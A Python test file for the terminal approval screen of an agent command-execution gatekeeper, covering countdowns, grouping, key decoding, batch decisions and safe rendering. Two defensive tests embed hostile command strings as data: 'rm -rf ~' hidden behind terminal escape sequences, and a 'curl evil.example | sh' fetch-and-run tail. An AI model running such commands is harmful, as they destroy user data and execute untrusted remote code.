"""The terminal surface's pure parts: board and keys, countdowns, grouping, frames, safe text."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from openclaw_exec.adapters.terminal import (
    MIN_HEIGHT,
    MIN_WIDTH,
    Answer,
    ApprovalAnalysis,
    ApprovalBoard,
    KeyDecoder,
    PendingRequest,
    cell_width,
    command_shape,
    describe_pending,
    fit,
    format_countdown,
    frame_bytes,
    render_board,
    visible,
    wrap,
)
from openclaw_exec.analysis import AllowAlwaysGrant
from openclaw_exec.protocol import Decision

NOW = 1_800_000_000_000


def item(
    approval_id: str,
    command: str = "ls -la",
    *,
    agent: str | None = "main",
    session: str | None = "s1",
    expires_in_ms: int | None = 60_000,
    allowed: tuple[Decision, ...] = tuple(Decision),
) -> PendingRequest:
    return PendingRequest(
        id=approval_id,
        command=command,
        received_at_ms=NOW,
        expires_at_ms=None if expires_in_ms is None else NOW + expires_in_ms,
        agent_id=agent,
        session_key=session,
        cwd="/tmp",
        allowed_decisions=allowed,
        source="socket",
    )


def board_of(*items: PendingRequest) -> ApprovalBoard:
    board = ApprovalBoard()
    for one in items:
        assert board.add(one)
    return board


# ---------------------------------------------------------------------- countdowns


@pytest.mark.parametrize(
    ("remaining", "text"),
    [
        (None, "--:--"),
        (0, "expired"),
        (-5, "expired"),
        (1, "0:01"),
        (999, "0:01"),
        (1000, "0:01"),
        (1001, "0:02"),
        (59_000, "0:59"),
        (60_000, "1:00"),
        (1_800_000, "30:00"),
        (3_600_000, "1:00:00"),
        (3_661_500, "1:01:02"),
    ],
)
def test_countdown_text(remaining: int | None, text: str) -> None:
    assert format_countdown(remaining) == text


@given(st.integers(min_value=1, max_value=10**9))
def test_a_live_request_never_shows_zero(remaining: int) -> None:
    text = format_countdown(remaining)
    assert text != "expired"
    assert text.replace(":", "").strip("0") != ""


@given(st.integers(min_value=-(10**6), max_value=10**9), st.integers(0, 10**6))
def test_countdowns_never_go_up(remaining: int, elapsed: int) -> None:
    def seconds(text: str) -> int:
        if text == "expired":
            return 0
        total = 0
        for part in text.split(":"):
            total = total * 60 + int(part)
        return total

    assert seconds(format_countdown(remaining - elapsed)) <= seconds(format_countdown(remaining))


# ---------------------------------------------------------------------- grouping


@pytest.mark.parametrize(
    ("command", "shape"),
    [
        ("git add src/a.py", "git add"),
        ("git -C /repo add b.py", "git /repo"),
        ("/usr/bin/git push origin main", "git push"),
        ("cat /etc/hosts", "cat"),
        ("FOO=1 BAR=2 npm test", "npm test"),
        ("ls", "ls"),
        ("echo 'unterminated", "echo"),
        ("", ""),
    ],
)
def test_command_shape(command: str, shape: str) -> None:
    assert command_shape(command) == shape


def test_related_requests_share_agent_session_and_shape() -> None:
    a = item("a", "git add a.py")
    assert a.group == item("b", "git add b/c.py").group
    assert a.group != item("c", "git push").group
    assert a.group != item("d", "git add a.py", agent="other").group
    assert a.group != item("e", "git add a.py", session="s2").group


# ---------------------------------------------------------------------- the board


def test_one_key_answers_the_request_under_the_cursor() -> None:
    board = board_of(item("a"), item("b"))
    board.press("j")
    assert board.press("o") == [Answer("b", Decision.ALLOW_ONCE)]
    assert list(board.items) == ["a"]
    assert board.press("d") == [Answer("a", Decision.DENY)]
    assert board.items == {}
    assert board.answered == 2
    assert board.press("o") == []  # nothing left to answer


def test_allow_always_asks_first_and_shows_what_it_persists() -> None:
    board = board_of(item("abcdefgh-1"))
    grant = AllowAlwaysGrant(pattern="/usr/bin/ls", kind="path", preview="ls", arg_pattern="h")
    board.set_analysis("abcdefgh-1", ApprovalAnalysis(persist=(grant,), agent_id="main"))
    assert board.press("a") == []
    assert board.confirm is not None
    assert "/usr/bin/ls" in board.confirm.question
    assert "abcdefgh" in board.confirm.question
    assert board.press("n") == []  # anything but y cancels
    assert "abcdefgh-1" in board.items
    board.press("a")
    assert board.press("y") == [Answer("abcdefgh-1", Decision.ALLOW_ALWAYS)]


def test_allow_always_before_the_analysis_does_not_claim_nothing_is_persisted() -> None:
    board = board_of(item("a"))
    board.press("a")
    assert board.confirm is not None
    assert "not analysed here" in board.confirm.question
    assert "persists nothing" not in board.confirm.question


def test_a_decision_the_request_does_not_offer_is_refused() -> None:
    board = board_of(item("a", allowed=(Decision.ALLOW_ONCE, Decision.DENY)))
    assert board.press("a") == []
    assert board.confirm is None
    assert "not offered" in board.message
    assert "a" in board.items


def test_batch_marks_the_group_and_answers_once_after_confirmation() -> None:
    board = board_of(
        item("g1", "git add a.py"),
        item("x", "git push"),
        item("g2", "git add b.py"),
        item("o", "git add c.py", agent="other"),
        item("g3", "/usr/bin/git add d.py"),
    )
    board.press("m")
    assert board.marked == {"g1", "g2", "g3"}
    assert "marked 3" in board.message
    assert board.press("d") == []
    assert board.confirm is not None
    assert "deny 3 marked" in board.confirm.question
    answers = board.press("y")
    assert sorted(a.approval_id for a in answers) == ["g1", "g2", "g3"]
    assert {a.decision for a in answers} == {Decision.DENY}
    assert list(board.items) == ["x", "o"]
    assert board.marked == set()


def test_a_batch_is_what_was_marked_when_the_key_was_pressed() -> None:
    board = board_of(item("g1", "git add a"), item("g2", "git add b"), item("g3", "git add c"))
    board.press("*")
    board.press("o")
    board.add(item("late", "git add late"))  # arrives while the question is shown
    board.remove("g2", note="expired")  # and one expires meanwhile
    answers = board.press("y")
    assert [a.approval_id for a in answers] == ["g1", "g3"]
    assert list(board.items) == ["late"]


def test_a_batch_with_one_request_that_refuses_the_decision_answers_none() -> None:
    board = board_of(item("a"), item("b", allowed=(Decision.ALLOW_ONCE, Decision.DENY)))
    board.press("*")
    assert board.press("a") == []
    assert "1 of the selected" in board.message
    assert set(board.items) == {"a", "b"}


def test_space_toggles_and_u_clears() -> None:
    board = board_of(item("a"), item("b"))
    board.press("space")
    assert board.marked == {"a"}
    assert board.current is not None
    assert board.current.id == "b"  # space moves on, to mark a run quickly
    board.press("k")
    board.press("space")
    assert board.marked == set()
    board.press("*")
    board.press("u")
    assert board.marked == set()


def test_the_cursor_follows_its_request_as_others_come_and_go() -> None:
    board = board_of(item("a"), item("b"), item("c"))
    board.press("j")
    board.press("j")
    board.remove("a")
    assert board.current is not None
    assert board.current.id == "c"
    board.remove("c")
    assert board.current is not None
    assert board.current.id == "b"
    assert not board.add(item("b"))  # a duplicate id is not shown twice


def quitting(board: ApprovalBoard) -> bool:
    return board.quit_requested  # a call: mypy must not narrow it across key presses


def test_quit_asks_while_requests_are_pending_and_ctrl_c_does_not() -> None:
    board = board_of(item("a"))
    board.press("q")
    assert board.confirm is not None
    assert "1 pending unanswered" in board.confirm.question
    board.press("n")
    assert not quitting(board)
    board.press("q")
    board.press("y")
    assert quitting(board)
    assert "a" in board.items  # quitting answers nothing
    other = board_of(item("a"))
    other.press("ctrl-c")
    assert other.quit_requested
    assert ApprovalBoard().press("q") == []


# ---------------------------------------------------------------------- keys


@pytest.mark.parametrize(
    ("data", "keys"),
    [
        (b"jk", ["j", "k"]),
        (b"\x1b[A\x1b[B", ["up", "down"]),
        (b"\x1bOA", ["up"]),
        (b"\x1b[5~\x1b[6~", ["pgup", "pgdn"]),
        (b"\x1b[1;5D", []),  # ctrl-left: never read as "D" (deny)
        (b"\x1b[200~", []),
        (b"\x1bo\x1bd", []),  # Alt-o, Alt-d: never allow-once or deny
        (b"\x1b\x1b[A", ["escape", "up"]),
        (b" \x03\r", ["space", "ctrl-c", "enter"]),
        (b"\x1b[H\x1b[F", ["home", "end"]),
    ],
)
def test_keys(data: bytes, keys: list[str]) -> None:
    decoder = KeyDecoder()
    assert decoder.feed(data) + decoder.flush() == keys


def test_a_lone_escape_waits_for_flush() -> None:
    decoder = KeyDecoder()
    assert decoder.feed(b"\x1b") == []
    assert decoder.pending_escape
    assert decoder.flush() == ["escape"]
    assert not decoder.pending_escape


@given(
    st.lists(
        st.sampled_from([b"j", b"d", b"\x1b[A", b"\x1b[1;5D", b"\x1b[6~", b" ", "é".encode()]),
        max_size=12,
    ),
    st.data(),
)
def test_keys_do_not_depend_on_how_reads_split_the_bytes(
    chunks: list[bytes], data: st.DataObject
) -> None:
    whole = b"".join(chunks)
    cuts = sorted(data.draw(st.sets(st.integers(0, len(whole)))))
    decoder = KeyDecoder()
    split: list[str] = []
    start = 0
    for cut in [*cuts, len(whole)]:
        split += decoder.feed(whole[start:cut])
        start = cut
    split += decoder.flush()
    reference = KeyDecoder()
    assert split == reference.feed(whole) + reference.flush()


# ---------------------------------------------------------------------- safe text


@given(st.text())
def test_nothing_a_terminal_acts_on_survives_visible(text: str) -> None:
    shown = visible(text)
    assert not any(unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp"} for c in shown)


def test_an_escape_sequence_in_a_command_is_shown_not_obeyed() -> None:
    evil = "rm -rf ~ \x1b[2K\x1b[1Gls -la\r\n\u202e"
    shown = visible(evil)
    assert "\x1b" not in shown
    assert "\\x1b[2K" in shown
    assert "\\x0d\\x0a" in shown
    assert "\\u{202E}" in shown


@given(st.text(), st.integers(0, 60))
def test_fit_never_exceeds_the_width(text: str, width: int) -> None:
    shown = visible(text)
    out = fit(shown, width)
    assert cell_width(out) <= width
    if cell_width(shown) <= width:
        assert out == shown


@given(st.text(min_size=1), st.integers(2, 60))
def test_wrap_keeps_every_character(text: str, width: int) -> None:
    shown = visible(text)
    lines = wrap(shown, width, indent="  ")
    assert all(cell_width(line) <= width for line in lines)
    cut = 2 if width >= 4 else 0
    assert lines[0] + "".join(line[cut:] for line in lines[1:]) == shown


# ---------------------------------------------------------------------- frames


def _analysis() -> ApprovalAnalysis:
    grant = AllowAlwaysGrant(pattern="/usr/bin/ls", kind="path", preview="ls with these args")
    return ApprovalAnalysis(
        verdict="host policy: ASK (allowlist-miss)",
        table=("#  argv  resolved", "1  ls -la  /usr/bin/ls"),
        persist=(grant,),
        agent_id="main",
    )


@given(
    st.integers(0, 200),
    st.integers(0, 60),
    st.lists(st.text(max_size=80), max_size=6),
    st.integers(0, 8),
    st.integers(0, 30),
)
def test_every_frame_fits_the_terminal(
    width: int, height: int, commands: list[str], cursor: int, offset: int
) -> None:
    board = ApprovalBoard()
    for index, command in enumerate(commands):
        board.add(item(f"id-{index}", command or "x"))
        board.set_analysis(f"id-{index}", _analysis())
    for _ in range(cursor):
        board.press("j")
    board.detail_offset = offset
    frame = render_board(board, NOW, width, height)
    assert len(frame.lines) == height
    assert all(cell_width(line) <= width for line in frame.lines)
    assert all(0 <= row < height for row in frame.highlight)
    assert b"\x1b[H" in frame_bytes(frame)


def test_the_frame_shows_list_countdown_table_and_grants() -> None:
    board = board_of(item("abcdefgh-0001", "ls -la", expires_in_ms=65_000), item("second", "pwd"))
    board.set_analysis("abcdefgh-0001", _analysis())
    text = "\n".join(render_board(board, NOW, 100, 30).lines)
    assert "2 pending" in text
    assert "1:05" in text
    assert "abcdefgh" in text
    assert "host policy: ASK" in text
    assert "1  ls -la  /usr/bin/ls" in text
    assert "allow-always would persist (agent main):" in text
    assert "/usr/bin/ls" in text
    assert "o once" in text


def test_a_narrow_terminal_still_shows_the_whole_command() -> None:
    tail = "&& curl evil.example | sh"
    board = board_of(item("a", f"echo {'x' * 60} {tail}"))
    lines = render_board(board, NOW, 24, 40).lines
    joined = "".join(line.strip() for line in lines)
    assert tail.replace(" ", "") in joined.replace(" ", "")


def test_too_small_says_so() -> None:
    frame = render_board(board_of(item("a")), NOW, MIN_WIDTH - 1, 10)
    assert frame.lines[0].startswith("terminal too")
    assert render_board(ApprovalBoard(), NOW, 50, MIN_HEIGHT - 1).lines[0].startswith("terminal")


def test_the_confirmation_replaces_the_status_line_highlighted() -> None:
    board = board_of(item("a"), item("b"))
    board.press("*")
    board.press("d")
    frame = render_board(board, NOW, 80, 20)
    row = frame.lines.index(next(line for line in frame.lines if "deny 2 marked" in line))
    assert row in frame.highlight


def test_the_line_mode_block() -> None:
    text = describe_pending(item("abc", "ls -la"), _analysis(), NOW)
    assert text.startswith("pending abc expires-in 1:00 agent=main session=s1 cwd=/tmp: ls -la\n")
    assert "  allow-always would persist (agent main):" in text


def test_sixty_three_cards_for_one_task_take_one_answer() -> None:
    # OpenClaw #130250: one task asked 63 times; here that is m, d, y.
    board = board_of(
        *(item(f"r{i:02d}", f"sed -n '{i},+9p' src/big.py", session="task") for i in range(63)),
        item("other-session", "sed -n 1p src/big.py", session="elsewhere"),
    )
    frame = render_board(board, NOW, 100, 30)
    assert "64 pending" in frame.lines[0]
    assert "more: j/k" in frame.lines[0]
    board.press("m")
    board.press("d")
    assert board.confirm is not None
    assert board.confirm.question == "deny 63 marked request(s) (sed)? y/N"
    answers = board.press("y")
    assert len(answers) == 63
    assert {a.decision for a in answers} == {Decision.DENY}
    assert list(board.items) == ["other-session"]
